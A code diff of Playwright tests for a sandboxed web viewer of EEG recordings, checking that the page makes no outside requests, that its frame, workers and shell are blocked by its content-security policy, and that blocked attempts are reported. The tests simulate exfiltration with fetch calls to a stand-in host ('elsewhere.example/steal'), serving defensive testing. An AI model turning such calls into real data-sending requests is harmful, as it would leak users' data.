@@ -18,7 +18,13 @@ import {
 import { edfFile, labels64 } from './support/edf.js';
 import { Outside } from './support/outside.js';
 
-test('nothing is requested after a recording is opened', async ({ page, browserName }) => {
+test('nothing is requested after a recording is opened, and the page breaks its own policy nowhere', async ({
+  page,
+  browserName,
+}) => {
+  const complaints: string[] = [];
+  page.on('console', (message) => message.type() === 'error' && complaints.push(message.text()));
+  page.on('pageerror', (error) => complaints.push(error.message));
   await openPage(page);
   await everythingIsHere(page);
   const requests = requestLog(page);
@@ -34,59 +40,40 @@ test('nothing is requested after a recording is opened', async ({ page, browserN
   await expect(privacy(page)).toContainText(
     '0 requests have left this page since the recording was opened',
   );
+  expect(complaints).toEqual([]);
 });
 
-test('a request to another place is blocked by the policy, and shown', async ({ page }) => {
-  await openPage(page);
-  await openFile(page, { name: 'own.edf', buffer: edfFile({ labels: ['Cz'] }) });
-  const outcome = await page.evaluate(() =>
-    fetch('https://elsewhere.example/steal').then(
-      () => 'sent',
-      () => 'blocked',
-    ),
-  );
-  expect(outcome).toBe('blocked');
-  await expect(privacy(page)).toContainText('One attempt was blocked');
-  await expect(privacy(page)).toContainText('https://elsewhere.example/steal');
-  await expect(privacy(page)).toContainText('0 requests');
-});
-
-test('what a worker of the page attempts is blocked and shown as well', async ({
+test('requests of the frame, of its workers and of the shell are blocked by the policy, and shown', async ({
   page,
   browserName,
 }) => {
-  test.skip(browserName === 'firefox', 'the protocol with Firefox reaches no worker of a frame');
   await openPage(page);
   await openFile(page, { name: 'own.edf', buffer: edfFile({ labels: ['Cz'] }) });
   await expect(page.getByRole('heading', { name: 'own.edf' })).toBeVisible();
-  const [worker] = page.workers();
-  const outcome = await worker!.evaluate(() =>
-    fetch('https://elsewhere.example/worker').then(
+  const attempt = (address: string) =>
+    fetch(address).then(
       () => 'sent',
       () => 'blocked',
-    ),
-  );
-  expect(outcome).toBe('blocked');
-  await expect(privacy(page)).toContainText('https://elsewhere.example/worker (connect-src)');
-});
+    );
+  expect(await page.evaluate(attempt, 'https://elsewhere.example/steal')).toBe('blocked');
+  await expect(privacy(page)).toContainText('One attempt was blocked');
+  await expect(privacy(page)).toContainText('https://elsewhere.example/steal');
+  await expect(privacy(page)).toContainText('0 requests');
 
-test('the shell closes its own connections before a recording opens, and gives no file after it', async ({
-  page,
-}) => {
-  await openPage(page);
-  await openFile(page, { name: 'own.edf', buffer: edfFile({ labels: ['Cz'] }) });
+  // The protocol with Firefox reaches no worker of a frame.
+  if (browserName !== 'firefox') {
+    const [worker] = page.workers();
+    expect(await worker!.evaluate(attempt, 'https://elsewhere.example/worker')).toBe('blocked');
+    await expect(privacy(page)).toContainText('https://elsewhere.example/worker (connect-src)');
+  }
+
+  // The shell has closed its own connections, and gives no file.
   await expect(privacy(page)).toContainText('Connections are closed');
-  const outcome = await shellOf(page).evaluate(() =>
-    fetch('/icon.svg').then(
-      () => 'sent',
-      () => 'blocked',
-    ),
-  );
-  expect(outcome).toBe('blocked');
+  expect(await shellOf(page).evaluate(attempt, '/icon.svg')).toBe('blocked');
   await expect(privacy(page)).toContainText('/icon.svg (connect-src)');
 });
 
-test('the frame has an opaque origin, no rights but scripts and dialogs, and no name in its shell', async ({
+test('the frame has an opaque origin, no rights but scripts and dialogs, no storage, and no way into its shell', async ({
   page,
 }) => {
   await openPage(page);
@@ -107,12 +94,8 @@ test('the frame has an opaque origin, no rights but scripts and dialogs, and no 
   const frame = shellOf(page).locator('iframe');
   await expect(frame).toHaveAttribute('sandbox', 'allow-scripts allow-modals');
   expect(await frame.getAttribute('allow')).toBeNull();
-});
 
-test('in the frame there is nothing to store in, no way into the shell, and nothing that no policy governs', async ({
-  page,
-}) => {
-  await openPage(page);
+  // There is nothing to store in, no way into the shell, and nothing that no policy governs.
   const found = await page.evaluate(async () => {
     const answer = async (ask: () => unknown) => {
       try {
@@ -332,14 +315,4 @@ test('what is stored is listed with its size, and erased once that is confirmed;
   expect(await databases()).toEqual(['of another page']);
   expect(await shellOf(page).evaluate(() => localStorage.length)).toBe(1);
   expect(await shellOf(page).evaluate(() => caches.keys())).toEqual(['of-another-page']);
-});
-
-test('the page breaks its own policy nowhere', async ({ page }) => {
-  const complaints: string[] = [];
-  page.on('console', (message) => message.type() === 'error' && complaints.push(message.text()));
-  page.on('pageerror', (error) => complaints.push(error.message));
-  await openPage(page);
-  await page.getByRole('button', { name: 'Try the sample recording' }).click();
-  await expect(epochRows(page)).toHaveCount(59);
-  expect(complaints).toEqual([]);
 });
